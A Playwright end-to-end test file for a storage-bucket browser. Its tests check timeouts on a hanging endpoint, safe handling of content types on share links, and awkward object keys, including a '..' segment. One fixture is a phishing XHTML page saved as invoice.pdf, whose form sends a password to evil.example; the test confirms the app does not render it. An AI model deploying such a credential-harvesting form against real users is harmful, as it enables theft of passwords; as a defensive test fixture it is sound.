import { pdf } from "../../lib/dev/sample-files";
import { startHangingServer } from "../support/hanging-storage";
import { ensureConnection, ensureSignedIn, expect, test, type Storage } from "../support/fixtures";
import type { Page } from "@playwright/test";

test.describe.configure({ mode: "serial" });

const BUCKET = "e2e-safety";
/** STORAGE_DEADLINE_MS (10 s) plus room for a busy machine. */
const BOUND_MS = 15_000;

async function openBucket(page: Page, storage: Storage) {
  await ensureSignedIn(page);
  await ensureConnection(page, storage);
  await page.getByRole("link", { name: "Buckets", exact: true }).click();
  await page.getByRole("link", { name: BUCKET, exact: true }).click();
}

test("a storage endpoint that accepts connections and never answers is explained within the bound", async ({ page, storage }) => {
  test.setTimeout(120_000);
  await storage.bucket(BUCKET);
  const silent = await startHangingServer("silent");
  try {
    await ensureSignedIn(page);
    await ensureConnection(page, storage);
    await page.goto("/settings/connections");
    await page.getByRole("link", { name: "Add connection" }).click();
    await expect(page.getByRole("heading", { name: "Add connection", level: 1 })).toBeVisible();
    await page.getByLabel("Name", { exact: true }).fill("Hanging storage");
    await page.getByLabel("Provider").selectOption({ label: "MinIO / self-hosted" });
    await page.getByLabel("Endpoint").fill(silent.endpoint);
    await page.getByLabel("Region").fill("us-east-1");
    await page.getByLabel("Access key ID").fill("AKIAHANGING");
    await page.getByLabel("Secret access key").fill("hanging-secret");

    // Test connection ends with the explanation.
    let started = Date.now();
    await page.getByRole("button", { name: "Test connection" }).click();
    await expect(page.getByText(/Storage did not answer in time/)).toBeVisible({ timeout: BOUND_MS });
    expect(Date.now() - started).toBeLessThan(BOUND_MS);
    await expect(page.getByText(/did not answer within 10 seconds/)).toBeVisible();

    await page.getByRole("button", { name: "Save connection" }).click();
    await expect(page.getByText("Connection saved.")).toBeVisible();

    // The buckets page: the healthy connection lists at once, the hanging one explains itself in time.
    started = Date.now();
    // "commit": the document streams; its load event only comes once every section has answered.
    await page.goto("/buckets", { waitUntil: "commit" });
    await expect(page.getByRole("link", { name: BUCKET, exact: true })).toBeVisible({ timeout: 5_000 });
    expect(Date.now() - started).toBeLessThan(5_000);
    const hanging = page.getByRole("region", { name: /Hanging storage/ });
    const panel = hanging.getByRole("alert");
    await expect(panel).toContainText("Storage did not answer in time", { timeout: BOUND_MS });
    expect(Date.now() - started).toBeLessThan(BOUND_MS);
    await expect(panel).toContainText("did not answer within 10 seconds");
    await expect(panel.getByRole("link", { name: "Retry" })).toBeVisible();
    expect(silent.connections()).toBeGreaterThan(0);

    // Other pages stay fast meanwhile.
    started = Date.now();
    await page.goto("/links");
    await expect(page.getByRole("heading", { name: "Links", level: 1 })).toBeVisible();
    expect(Date.now() - started).toBeLessThan(5_000);
  } finally {
    // Leave no hanging connection for the specs that follow.
    await page.goto("/settings/connections");
    const remove = page.getByRole("button", { name: "Delete Hanging storage" });
    if (await remove.count()) {
      await remove.click();
      await page.getByRole("button", { name: "Delete connection" }).click();
      await expect(remove).toHaveCount(0);
    }
    await silent.close();
  }
});

test("an object named invoice.pdf stored as XHTML is not rendered; a real PDF opens only as a PDF", async ({ page, storage, request }) => {
  await storage.bucket(BUCKET);
  await storage.put(
    BUCKET,
    "invoice.pdf",
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><form action="https://evil.example/"><label>Invoice password <input name="password" type="password"/></label><button>Sign in to view invoice</button></form></body></html>',
    "application/xhtml+xml",
  );
  await storage.put(BUCKET, "statement.pdf", pdf("Statement", ["All fine."]), "application/pdf");

  await openBucket(page, storage);
  await page.getByRole("link", { name: "invoice.pdf", exact: true }).click();
  const details = page.getByRole("complementary");
  await expect(details.getByRole("heading", { name: "invoice.pdf" })).toBeVisible();
  await expect(details.getByText("application/xhtml+xml")).toBeVisible();
  await expect(details.getByText("No preview for this type of file.")).toBeVisible();
  // Nothing of the object's own page can be reached: no fake form, no frame.
  await expect(page.getByRole("button", { name: "Sign in to view invoice" })).toHaveCount(0);
  await expect(page.getByLabel("Invoice password")).toHaveCount(0);
  expect(page.frames()).toHaveLength(1);

  await page.getByRole("link", { name: "statement.pdf", exact: true }).click();
  await expect(details.getByRole("heading", { name: "statement.pdf" })).toBeVisible();
  const open = details.getByRole("link", { name: "Open PDF preview" });
  await expect(open).toBeVisible();
  await expect(open).toHaveAttribute("target", "_blank");
  await expect(open).toHaveAttribute("rel", /noopener/);
  const href = (await open.getAttribute("href"))!;
  expect(new URL(href).searchParams.get("response-content-type")).toBe("application/pdf");
  const served = await request.get(href);
  expect(served.status()).toBe(200);
  expect(served.headers()["content-type"]).toBe("application/pdf");
  expect(page.frames()).toHaveLength(1);
});

test("the content-type override refuses an active type with Open in browser, next to the field", async ({ page, storage }) => {
  await storage.bucket(BUCKET);
  await storage.put(BUCKET, "statement.pdf", pdf("Statement", ["All fine."]), "application/pdf");
  await openBucket(page, storage);
  await page.getByRole("link", { name: "statement.pdf", exact: true }).click();
  await page.getByRole("complementary").getByRole("button", { name: "Quick Share" }).click();
  const dialog = page.getByRole("dialog", { name: "Quick Share" });
  await dialog.getByText("More options").click();
  await dialog.getByLabel("Content type (optional)").fill("text/html");
  await dialog.getByRole("button", { name: "Generate link" }).click();
  await expect(dialog.getByText(/text\/html can run as a web page in the recipient's browser: choose Download/)).toBeVisible();
  await expect(dialog.getByLabel("Content type (optional)")).toHaveAttribute("aria-invalid", "true");
  await expect(dialog.getByLabel("Share link", { exact: true })).toHaveCount(0);

  await dialog.getByLabel("Download").check();
  await dialog.getByRole("button", { name: "Generate link" }).click();
  await expect(dialog.getByLabel("Share link", { exact: true })).toHaveValue(/response-content-type=text%2Fhtml/);
});

const AWKWARD = [
  { folders: ["dir with space"], name: "naïve + plus %25 #hash ?q&a.txt" },
  { folders: ["unicode", "日本語 フォルダ"], name: "résumé 履歴書.txt" },
  { folders: ["dots", ".."], name: "up.txt" },
  { folders: ["slash-end"], name: "inside.txt", marker: true },
];

test("awkward keys open their details and share correctly through the real router", async ({ page, storage, request }) => {
  test.setTimeout(120_000);
  await storage.bucket(BUCKET);
  for (const item of AWKWARD) {
    const key = [...item.folders, item.name].join("/");
    if (item.marker) await storage.put(BUCKET, `${item.folders.join("/")}/`, Buffer.alloc(0), "application/x-directory");
    await storage.put(BUCKET, key, `content of ${key}\n`, "text/plain");
  }

  await ensureSignedIn(page);
  await ensureConnection(page, storage);
  for (const item of AWKWARD) {
    const key = [...item.folders, item.name].join("/");
    await page.goto("/buckets");
    await page.getByRole("link", { name: BUCKET, exact: true }).click();
    for (const folder of item.folders) await page.getByRole("link", { name: folder, exact: true }).click();
    // The folder's own name, decoded once (not "dir%20with%20space").
    await expect(page.getByRole("navigation", { name: "Breadcrumb" }).getByText(item.folders.at(-1)!, { exact: true })).toHaveAttribute("aria-current", "page");
    await page.getByRole("link", { name: item.name, exact: true }).click();

    const details = page.getByRole("complementary");
    await expect(details.getByRole("heading", { name: item.name })).toBeVisible();
    await expect(details.getByText(key, { exact: true })).toBeVisible();
    await expect(details.getByLabel(`Preview of ${item.name}`)).toHaveText(`content of ${key}`);

    // A reload of the page's own URL finds the same object.
    await page.reload();
    await expect(details.getByText(key, { exact: true })).toBeVisible();

    await details.getByRole("button", { name: "Quick Share" }).click();
    const dialog = page.getByRole("dialog", { name: "Quick Share" });
    await expect(dialog.getByLabel("File name")).toHaveValue(item.name);
    await dialog.getByLabel("Download").check();
    await dialog.getByRole("button", { name: "Generate link" }).click();
    if (item.folders.includes("..")) {
      // Every URL client drops a ".." segment, so no link could reach this key: said, not issued.
      await expect(dialog.getByRole("alert")).toContainText("browsers remove from every link");
      await expect(dialog.getByLabel("Share link", { exact: true })).toHaveCount(0);
      await dialog.getByRole("button", { name: "Cancel" }).click();
      continue;
    }
    const field = dialog.getByLabel("Share link", { exact: true });
    await expect(field).toHaveValue(/^http/);
    const response = await request.get(await field.inputValue());
    expect(response.status(), key).toBe(200);
    expect(await response.text()).toBe(`content of ${key}\n`);
    await dialog.getByRole("button", { name: "Done" }).click();
  }
});
